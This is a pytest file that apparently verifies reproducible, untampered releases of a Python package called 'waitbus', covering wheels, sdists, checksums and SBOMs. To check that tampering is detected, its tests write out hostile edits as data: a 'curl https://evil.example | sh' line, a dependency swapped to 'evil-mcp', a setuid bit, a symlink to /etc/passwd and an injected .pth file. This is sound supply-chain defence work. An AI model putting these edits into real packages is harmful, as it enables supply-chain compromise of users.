"""What is released: the same bytes again, nothing in them but the tree's, bills that anyone can make again."""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import tomllib
import zipfile
from collections.abc import Callable, Iterator
from gzip import GzipFile
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from tests.artifacts import NEEDS_MORE
from tools import contents, reproduce, sbom, tree
from tools.beside import sums
from tools.epoch import source_epoch
from tools.pythons import SUPPORTED

ROOT = Path(__file__).resolve().parent.parent
EPOCH = 1_700_000_001  # odd: ZIP's clock counts in twos
ANOTHER = (2020, 1, 1, 0, 0, 0)

# The main environment holds what the others do not need.
main_only = pytest.mark.skipif(
    importlib.util.find_spec("cyclonedx") is None, reason="on the main interpreter only: many builds, or its own tools"
)


pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="needs git: a release is made of what is tracked")


def clean_environment() -> dict[str, str]:
    """Ours without what coverage adds to child processes."""
    return {key: value for key, value in os.environ.items() if not key.startswith("COVERAGE_")}


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tracked files as they lie here, without git."""
    root = tmp_path_factory.mktemp("source")
    for name, path in tree.tracked(ROOT).items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(path, root / name)
    return root


def build(source: Path, to: Path) -> Path:
    subprocess.run(
        [sys.executable, "-m", "tools.build", str(to)],
        cwd=source,
        env={**clean_environment(), "SOURCE_DATE_EPOCH": str(EPOCH), "PYTHONDONTWRITEBYTECODE": "1"},
        check=True,
        capture_output=True,
    )
    return to


@pytest.fixture(scope="module")
def built(source: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build(source, tmp_path_factory.mktemp("built") / "dist")


@pytest.fixture
def dist(built: Path, tmp_path: Path) -> Path:
    """A copy of the built release, to break."""
    return Path(shutil.copytree(built, tmp_path / "dist"))


def wheel_of(folder: Path) -> Path:
    (wheel,) = folder.glob("*.whl")
    return wheel


Entry = tuple[zipfile.ZipInfo, bytes]


def rewrite(wheel: Path, change: Callable[[list[Entry]], list[Entry]]) -> None:
    """Pack a wheel again with other entries."""
    with zipfile.ZipFile(wheel) as archive:
        entries = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(wheel, "w") as archive:
        for info, body in change(entries):
            archive.writestr(info, body, zipfile.ZIP_DEFLATED)


def test_a_release_holds_what_the_tree_holds(built: Path, source: Path) -> None:
    assert contents.faults(built, source, EPOCH) == []
    assert len(list(built.iterdir())) == 6


def with_record(entries: list[Entry], name: str, body: bytes) -> list[Entry]:
    """One more file, and RECORD made to fit: the attacker does it properly."""
    digest = base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b"=").decode()
    line = f"{name},sha256={digest},{len(body)}\n".encode()
    info = zipfile.ZipInfo(name, entries[0][0].date_time)
    info.external_attr = 0o100644 << 16
    return [(info, body)] + [
        (entry, line + content if entry.filename.endswith("/RECORD") else content) for entry, content in entries
    ]


@pytest.mark.parametrize("name", ["waitbus/extra.py", "waitbus.pth", "waitbus-0.3.0.dist-info/extra", "other/a.py"])
def test_an_extra_file_in_the_wheel_is_red(dist: Path, source: Path, name: str) -> None:
    wheel = wheel_of(dist)
    rewrite(wheel, lambda entries: with_record(entries, name, b"import os\n"))
    assert f"{wheel.name}: {name} does not belong in it" in list(contents.wheel_faults(wheel, source, EPOCH))


def says(file: str, old: bytes, new: bytes) -> Callable[[Path], None]:
    """Another word in a file of `.dist-info`, with RECORD made to fit."""

    def change(wheel: Path) -> None:
        def entries(before: list[Entry]) -> list[Entry]:
            after = []
            for info, body in before:
                if info.filename.endswith(f".dist-info/{file}"):
                    assert old in body
                    body = body.replace(old, new, 1)
                after.append((info, body))
            files = {info.filename: body for info, body in after}
            name = next(path for path in files if path.endswith("/RECORD"))
            return [(info, contents.record(files, name) if info.filename == name else body) for info, body in after]

        rewrite(wheel, entries)

    return change


@pytest.mark.parametrize(
    ("file", "old", "new"),
    [
        ("METADATA", b"Requires-Dist: ", f"{NEEDS_MORE}\nRequires-Dist: ".encode()),
        ("METADATA", b"Requires-Dist: mcp", b"Requires-Dist: evil-mcp"),
        ("METADATA", b"mcp>=2,<3", b"mcp>=1"),
        ("METADATA", b'; extra == "mcp"', b""),
        ("METADATA", b"Requires-Python: >=3.11", b"Requires-Python: >=3.9"),
        ("METADATA", b"Provides-Extra: mcp\n", b"Provides-Extra: mcp\nProvides-Extra: all\n"),
        ("METADATA", b"Project-URL: Homepage, https://github.com/", b"Project-URL: Homepage, https://evil.example/"),
        ("METADATA", b"Import-Name: waitbus", b"Import-Name: requests"),
        ("METADATA", b"License-Expression: MIT", b"License-Expression: GPL-3.0-only"),
        ("METADATA", b"Version: ", b"Dynamic: Version\nVersion: "),
        ("METADATA", b"uv tool install", b"curl https://evil.example | sh; uv tool install"),
        ("entry_points.txt", b"[console_scripts]\n", b"[console_scripts]\nsudo=waitbus.__main__:main\n"),
        ("entry_points.txt", b":main\n", b":evil\n"),
        ("entry_points.txt", b"[pytest11]\n", b"[pytest11]\nevil=evil\n"),
        ("WHEEL", b"true", b"false"),
        ("WHEEL", b"Tag: ", b"Tag: py2-none-any\nTag: "),
        ("licenses/LICENSE", b"MIT", b"WTF"),
    ],
)  # fmt: skip
def test_metadata_that_the_source_does_not_say_is_red(
    dist: Path, source: Path, file: str, old: bytes, new: bytes
) -> None:
    wheel = wheel_of(dist)
    says(file, old, new)(wheel)
    assert [fault.rsplit("/", 1)[1] for fault in contents.wheel_faults(wheel, source, EPOCH)] == [
        f"{file.rpartition('/')[2]} is not what the tree says"
    ]


def retimed(entries: list[Entry]) -> list[Entry]:
    entries[3][0].date_time = ANOTHER
    return entries


def reworded(entries: list[Entry]) -> list[Entry]:
    info, body = entries[3]
    return [*entries[:3], (info, body + b"#"), *entries[4:]]


def repermitted(entries: list[Entry]) -> list[Entry]:
    entries[3][0].external_attr = 0o104777 << 16
    return entries


def without(part: str) -> Callable[[list[Entry]], list[Entry]]:
    return lambda entries: [entry for entry in entries if part not in entry[0].filename]


@pytest.mark.parametrize(
    ("change", "word"),
    [
        (retimed, "does not carry the commit's time"),
        (reworded, "is not what the tree says"),
        (repermitted, "not a plain file"),
        (without("waitbus/event.py"), "waitbus/event.py is not in it"),
        (without("/RECORD"), "RECORD is not in it"),
        (without("/sboms/"), "waitbus.cdx.json is not in it"),
    ],
)
def test_a_changed_wheel_is_red(
    dist: Path, source: Path, change: Callable[[list[Entry]], list[Entry]], word: str
) -> None:
    wheel = wheel_of(dist)
    rewrite(wheel, change)
    assert [fault for fault in contents.wheel_faults(wheel, source, EPOCH) if word in fault]


def test_a_wheel_of_another_time_or_too_large_is_red(
    built: Path, source: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert list(contents.wheel_faults(wheel_of(built), source, EPOCH + 2))
    monkeypatch.setattr(contents, "LIMIT", 1000)
    (fault,) = contents.wheel_faults(wheel_of(built), source, EPOCH)
    assert "more than 1000" in fault


@pytest.mark.parametrize("change", ["extra", "time", "owner", "content", "link", "epoch", "needs"])
def test_a_changed_sdist_is_red(dist: Path, source: Path, change: str) -> None:
    (sdist,) = dist.glob("*.tar.gz")
    with tarfile.open(sdist) as archive:
        members = [(member, (archive.extractfile(member) or BytesIO()).read()) for member in archive]
    top = sdist.name.removesuffix(".tar.gz")
    epoch_file = next(number for number, (member, _) in enumerate(members) if member.name == f"{top}/SOURCE_DATE_EPOCH")
    info_file = next(number for number, (member, _) in enumerate(members) if member.name == f"{top}/PKG-INFO")
    first, body = members[0]
    match change:
        case "extra":
            members.append((tarfile.TarInfo(f"{top}/setup.py"), b""))
        case "time":
            first.mtime += 1
        case "owner":
            first.uname = "somebody"
        case "content":
            members[0] = (first, b"!" + body[1:])
        case "link":
            first.type, first.linkname, first.size = tarfile.SYMTYPE, "/etc/passwd", 0
        case "epoch":
            members[epoch_file] = (members[epoch_file][0], b"1700000002\n")
        case "needs":
            info, said = members[info_file]
            members[info_file] = (info, said.replace(b"mcp>=2,<3", b"evil>=2,<3"))
            info.size += 1
    with GzipFile(sdist, "wb") as packed, tarfile.open(mode="w", fileobj=packed) as archive:
        for member, content in members:
            archive.addfile(member, BytesIO(content))
    assert list(contents.sdist_faults(sdist, source, EPOCH))


@pytest.mark.parametrize(
    "name", ["SHA256SUMS", "waitbus-0.3.0.cdx.json", "waitbus-0.3.0-mcp.cdx.json", "pylock.mcp.toml"]
)
def test_a_changed_list_or_bill_is_red(dist: Path, source: Path, name: str) -> None:
    path = next(path for path in dist.iterdir() if path.name.replace(sbom_version(dist), "0.3.0") == name)
    path.write_bytes(path.read_bytes().replace(b"a", b"b", 1))
    assert contents.faults(dist, source, EPOCH)


def sbom_version(folder: Path) -> str:
    return wheel_of(folder).name.split("-")[1]


@pytest.mark.parametrize("name", ["evil.whl", "waitbus-0.3.0.tar.gz.sigstore.json", "evil"])
def test_a_file_more_beside_the_wheel_is_red(dist: Path, source: Path, name: str) -> None:
    (dist / name).write_text("")
    (dist / "SHA256SUMS").write_bytes(sums(path for path in dist.iterdir() if path.name != "SHA256SUMS"))
    (fault,) = contents.faults(dist, source, EPOCH)
    assert name in fault


def test_a_folder_that_is_empty_or_of_another_version_is_red(dist: Path, tmp_path: Path, source: Path) -> None:
    assert contents.faults(tmp_path, source, EPOCH)
    wheel = wheel_of(dist)
    wheel.rename(dist / "waitbus-99-py3-none-any.whl")
    assert contents.faults(dist, source, EPOCH)


def test_the_extras_lock_is_the_locks_export_and_the_wheel_itself(built: Path) -> None:
    wheel = wheel_of(built)
    pylock = tomllib.loads((built / "pylock.mcp.toml").read_text(encoding="utf-8"))
    *exported, ours = pylock["packages"]
    assert exported == tomllib.loads((ROOT / "packaging" / "pylock.mcp.toml").read_text(encoding="utf-8"))["packages"]
    assert {"mcp", "pydantic", "anyio"} <= {package["name"] for package in exported}
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    assert ours["wheels"] == [{"path": wheel.name, "hashes": {"sha256": digest}}]
    files = [
        file for package in exported for file in [*package.get("wheels", ()), *filter(None, [package.get("sdist")])]
    ]
    assert all(len(file["hashes"]["sha256"]) == 64 for file in files)


def bills(folder: Path) -> Iterator[tuple[str, bytes]]:
    for path in sorted(folder.glob("*.cdx.json")):
        yield path.name, path.read_bytes()
    with zipfile.ZipFile(wheel_of(folder)) as archive:
        (name,) = (name for name in archive.namelist() if name.endswith(sbom.INSIDE))
        yield name, archive.read(name)


@main_only
def test_the_bill_in_the_wheel_is_valid_by_the_official_schema(built: Path) -> None:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    # Of those beside the wheel, too large for the library's grammar of addresses, `make audit` asks another tool.
    *_, (_, content) = bills(built)
    found = json.loads(content)
    assert found["specVersion"] == "1.6"
    assert {"tools", "supplier"} <= set(found["metadata"])
    validator = JsonStrictValidator(SchemaVersion.V1_6)
    assert validator.validate_str(content.decode()) is None
    assert validator.validate_str(content.decode().replace('"bomFormat"', '"bomformat"')) is not None


def test_bills_made_again_are_the_same_bytes_and_another_input_gives_another_serial_number(built: Path) -> None:
    wheel, lock = wheel_of(built), tomllib.loads((ROOT / "uv.lock").read_text(encoding="utf-8"))
    version = sbom_version(built)
    made = [
        *(sbom.render(sbom.of_wheel(wheel, EPOCH)) for _ in range(2)),
        *(sbom.render(sbom.of_extra("mcp", lock, version, EPOCH)) for _ in range(2)),
    ]
    assert made[0] == made[1] == (built / f"waitbus-{version}.cdx.json").read_bytes()
    assert made[2] == made[3] == (built / f"waitbus-{version}-mcp.cdx.json").read_bytes()
    serials = {json.loads(content)["serialNumber"] for _, content in bills(built)}
    later = sbom.render(sbom.of_wheel(wheel, EPOCH + 1))
    assert len(serials | {json.loads(later)["serialNumber"]}) == 4


def test_the_wheels_bill_says_that_it_needs_nothing_and_names_every_file(built: Path) -> None:
    found: dict[str, Any] = json.loads((built / f"waitbus-{sbom_version(built)}.cdx.json").read_bytes())
    subject = found["metadata"]["component"]
    assert subject["hashes"][0]["content"] == hashlib.sha256(wheel_of(built).read_bytes()).hexdigest()
    assert {"ref": subject["bom-ref"], "dependsOn": []} in found["dependencies"]
    with zipfile.ZipFile(wheel_of(built)) as archive:
        assert {part["name"] for part in found["components"] if part["type"] == "file"} == set(archive.namelist())
    assert found["metadata"]["timestamp"] == "2023-11-14T22:13:21Z"


def test_the_extras_bill_names_every_locked_package_with_its_hashes() -> None:
    lock = tomllib.loads((ROOT / "uv.lock").read_text(encoding="utf-8"))
    bill = sbom.of_extra("mcp", lock, "1.0", EPOCH)
    assert {"mcp", "pydantic", "anyio"} <= {part["name"] for part in bill["components"]}
    assert "pytest" not in {part["name"] for part in bill["components"]}
    for part in bill["components"]:
        assert part["purl"] == f"pkg:pypi/{part['name']}@{part['version']}"
        assert part["externalReferences"]
        assert all(len(file["hashes"][0]["content"]) == 64 for file in part["externalReferences"])
    known = {part["bom-ref"] for part in bill["components"]} | {bill["metadata"]["component"]["bom-ref"]}
    assert {edge["ref"] for edge in bill["dependencies"]} == known
    reached = {ref for edge in bill["dependencies"] for ref in edge["dependsOn"]}
    assert reached == known - {bill["metadata"]["component"]["bom-ref"]}


def test_an_extra_of_a_dependency_is_followed() -> None:
    def package(name: str, **fields: object) -> dict[str, object]:
        return {"name": name, "version": "1", "sdist": {"url": f"u/{name}", "hash": "sha256:00"}, **fields}

    lock = {
        "package": [
            package("waitbus", **{"optional-dependencies": {"mcp": [{"name": "a", "extra": ["x"]}]}}),
            package(
                "a",
                dependencies=[{"name": "b"}],
                **{"optional-dependencies": {"x": [{"name": "c"}], "y": [{"name": "d"}]}},
            ),
            package("b"),
            package("c"),
            package("d"),
        ]
    }
    bill = sbom.of_extra("mcp", lock, "1", EPOCH)
    assert [part["name"] for part in bill["components"]] == ["a", "b", "c"]
    edges = {edge["ref"]: edge["dependsOn"] for edge in bill["dependencies"]}
    assert edges["pkg:pypi/a@1"] == ["pkg:pypi/b@1", "pkg:pypi/c@1"]


def test_the_time_comes_from_the_caller_then_git_then_the_sdist_then_the_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    project = tmp_path / "pyproject.toml"
    project.write_text("")
    os.utime(project, (5, 5))
    assert source_epoch(tmp_path) == 5
    (tmp_path / "SOURCE_DATE_EPOCH").write_text("6\n")
    assert source_epoch(tmp_path) == 6
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org"]
    for command in (["init", "-q"], ["commit", "-q", "--allow-empty", "-m", "x"]):
        when = {"GIT_COMMITTER_DATE": "@7 +0000", "GIT_AUTHOR_DATE": "@8 +0000"}
        subprocess.run([*git, *command], cwd=tmp_path, check=True, env={**os.environ, **when})
    assert source_epoch(tmp_path) == 7
    monkeypatch.setenv("PATH", str(tmp_path))  # no git there
    assert source_epoch(tmp_path) == 6
    with pytest.raises(LookupError, match="SOURCE_DATE_EPOCH"):
        source_epoch(tmp_path, strict=True)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "9")
    assert source_epoch(tmp_path, strict=True) == 9


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> reproduce.Bench:
    return reproduce.Bench(ROOT, "HEAD", tmp_path_factory.mktemp("bench"))


@main_only
def test_other_umasks_zones_and_ways_give_the_same_bytes(bench: reproduce.Bench) -> None:
    cells = [cell for cell in reproduce.matrix() if cell.start != "archive" or "behind" in cell.name]
    lines: list[str] = []
    ends = reproduce.run(bench, iter([reproduce.FIRST, *cells]), lines.append)
    assert ends == {reproduce.SAME: len(cells) + 1}
    assert len({line.split("  wheel ")[1] for line in lines}) == 1


def test_each_cell_of_the_matrix_is_there_whatever_can_be_had_here(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    monkeypatch.setattr(reproduce, "find", lambda minor, uv=None, user=None: None)
    cells = list(reproduce.matrix())
    assert len({cell.name for cell in cells}) == len(cells) == 11
    absent = {cell.name: cell.absent for cell in cells if cell.absent}
    others = {f"Python {minor}" for minor in SUPPORTED if minor != "{}.{}".format(*sys.version_info)}
    assert absent == {**dict.fromkeys(others, "not found here"), "another user, umask 027": "only root can become one"}


@main_only
def test_a_cell_that_did_not_run_is_said_to_and_fails_when_nothing_may_be_left_out(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    cells = [reproduce.FIRST, reproduce.Cell("another user", absent="only root can become one")]
    monkeypatch.setattr(reproduce, "matrix", lambda uv: iter(cells))
    for flags, code in (([], 0), (["--strict"], 1)):
        monkeypatch.setattr(sys, "argv", ["reproduce", *flags])
        monkeypatch.chdir(ROOT)
        assert reproduce.main() == code
        _, first, second, last = capsys.readouterr().out.splitlines()
        assert first.startswith("same     this user")
        assert second.split() == ["not", "run", "another", "user", "only", "root", "can", "become", "one"]
        assert last == "1 same, 0 differ, 1 not run"


@main_only
@pytest.mark.root
@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become another user")
def test_another_user_builds_the_same_bytes() -> None:
    other = next(cell for cell in reproduce.matrix() if cell.user is not None)
    if other.absent:
        pytest.skip(other.absent)
    with tempfile.TemporaryDirectory() as folder:  # not below pytest's own, which nobody else may enter
        Path(folder).chmod(0o755)
        bench = reproduce.Bench(ROOT, "HEAD", Path(folder))
        ends = reproduce.run(bench, iter([reproduce.FIRST, other]), lambda line: None)
    assert ends == {reproduce.SAME: 2}


@main_only
def test_a_changed_timestamp_is_red(bench: reproduce.Bench) -> None:
    later = reproduce.Bench.__new__(reproduce.Bench)
    later.__dict__.update(bench.__dict__, epoch=bench.epoch + 2)
    first = bench.build(reproduce.FIRST)
    lines: list[str] = []

    class Changing(reproduce.Bench):
        def __init__(self) -> None:
            self.__dict__.update(bench.__dict__)

        def build(self, cell: reproduce.Cell, first_built: reproduce.Built | None = None) -> reproduce.Built:
            return first if first_built is None else later.build(cell, first_built)

    ends = reproduce.run(Changing(), iter([reproduce.FIRST, reproduce.FIRST]), lines.append)
    assert ends == {reproduce.SAME: 1, reproduce.DIFFERS: 1}
    assert [line.split()[0] for line in lines if "  wheel " in line] == ["same", "DIFFERS"]
    assert lines[2], "nothing was said about what differs"
